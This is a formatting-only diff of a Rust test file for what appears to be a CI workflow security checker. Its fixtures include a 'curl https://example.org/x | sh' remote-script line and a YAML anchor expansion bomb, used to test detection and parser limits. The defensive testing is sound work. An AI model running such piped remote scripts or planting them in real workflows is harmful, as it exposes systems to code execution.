@@ -435,7 +435,10 @@ fn checkout_credentials_are_found_and_an_upload_is_named() {
         (0, vec![f("workflow-checkout-credentials", WF, 11)])
     );
     let msgs = messages(&r);
-    assert!(msgs[0].2.contains("uploads an artifact (line 13)"), "{msgs:?}");
+    assert!(
+        msgs[0].2.contains("uploads an artifact (line 13)"),
+        "{msgs:?}"
+    );
     // A version bump of the same checkout adds no risk: not reported again.
     let bumped = steps.replace(
         &format!("checkout@{SHA}\n"),
@@ -454,7 +457,8 @@ fn checkout_credentials_are_found_and_an_upload_is_named() {
 fn caches_on_privileged_or_publishing_runs_are_found() {
     let sb = Sandbox::new();
     let r = repo_with(&sb, POLICY);
-    let cache = format!("      - uses: Swatinem/rust-cache@{SHA}\n      - run: cargo build --release\n");
+    let cache =
+        format!("      - uses: Swatinem/rust-cache@{SHA}\n      - run: cargo build --release\n");
     // Near miss: caching on push is ordinary.
     assert_eq!(reviewed(&r, WF, &workflow("push", &cache)), (0, vec![]));
     // The trigger becomes `release`: reported at the trigger the change added.
@@ -570,16 +574,25 @@ fn a_workflow_that_is_not_yaml_or_not_a_workflow_is_reported_or_read_line_by_lin
     let mut bomb = String::from("a: &a [\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\",\"x\"]\n");
     for i in 0..9 {
         let (p, n) = ((b'a' + i) as char, (b'b' + i) as char);
-        bomb.push_str(&format!("{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"));
+        bomb.push_str(&format!(
+            "{n}: &{n} [*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p},*{p}]\n"
+        ));
     }
     assert_eq!(
         reviewed(&r, ".github/workflows/bomb.yml", &bomb),
-        (0, vec![f("workflow-invalid", ".github/workflows/bomb.yml", 0)])
+        (
+            0,
+            vec![f("workflow-invalid", ".github/workflows/bomb.yml", 0)]
+        )
     );
     assert!(messages(&r)[0].2.contains("repetition limit"));
     // YAML but not a workflow: no finding, a -v note, and the line rules.
     let notes = "just: notes\nsteps:\n  - curl https://example.org/x | sh\n";
-    r.commit_file(".github/workflows/notes.yml", notes, &format!("ci: notes{REVIEWED}"));
+    r.commit_file(
+        ".github/workflows/notes.yml",
+        notes,
+        &format!("ci: notes{REVIEWED}"),
+    );
     let run = r.pc(&["-v", "check", "--format", "json", "HEAD"]);
     assert_eq!(run.rules(), vec!["workflow-remote-script".to_string()]);
     assert!(
@@ -589,22 +602,36 @@ fn a_workflow_that_is_not_yaml_or_not_a_workflow_is_reported_or_read_line_by_lin
         run.stderr
     );
     // Over 1 MiB: not parsed (a -v note), the line rules still run.
-    let mut big = String::from("on: pull_request
+    let mut big = String::from(
+        "on: pull_request
 jobs:
   test:
     runs-on: [self-hosted]
     steps:
-");
+",
+    );
     while big.len() <= 1 << 20 {
-        big.push_str("      - run: echo one line of a very long workflow\n
-");
+        big.push_str(
+            "      - run: echo one line of a very long workflow\n
+",
+        );
     }
-    big.push_str("      - run: curl https://example.org/x | sh
-");
+    big.push_str(
+        "      - run: curl https://example.org/x | sh
+",
+    );
     let last = big.lines().count() as u64;
-    r.commit_file(".github/workflows/big.yml", &big, &format!("ci: big{REVIEWED}"));
+    r.commit_file(
+        ".github/workflows/big.yml",
+        &big,
+        &format!("ci: big{REVIEWED}"),
+    );
     let run = r.pc(&["-v", "check", "--format", "json", "HEAD"]);
     assert_eq!(run.rules(), vec!["workflow-remote-script".to_string()]);
     assert_eq!(run.json()["findings"][0]["line"], last);
-    assert!(run.stderr.contains("checked line by line only"), "{}", run.stderr);
+    assert!(
+        run.stderr.contains("checked line by line only"),
+        "{}",
+        run.stderr
+    );
 }
